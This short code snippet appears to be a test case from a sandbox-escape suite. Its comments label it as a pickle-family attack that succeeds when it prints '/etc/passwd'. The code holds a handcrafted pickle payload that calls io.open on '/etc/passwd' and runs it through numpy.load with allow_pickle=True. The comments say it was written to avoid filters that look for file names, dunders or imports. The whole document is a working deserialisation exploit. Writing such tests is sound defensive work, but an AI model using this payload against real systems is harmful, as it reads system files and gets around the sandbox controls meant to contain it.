# family: pickle
# kind: value
# tries: numpy.load of a pickle in memory: no file, no dunder, no import in the text
# success looks like: contents of /etc/passwd (root:x:0)
def job(plugin):
  pickled = b"cio\nopen\n(S'/etc/passwd'\ntR."
  return plugin.np.load(plugin.BytesIO(pickled), allow_pickle=True).read()
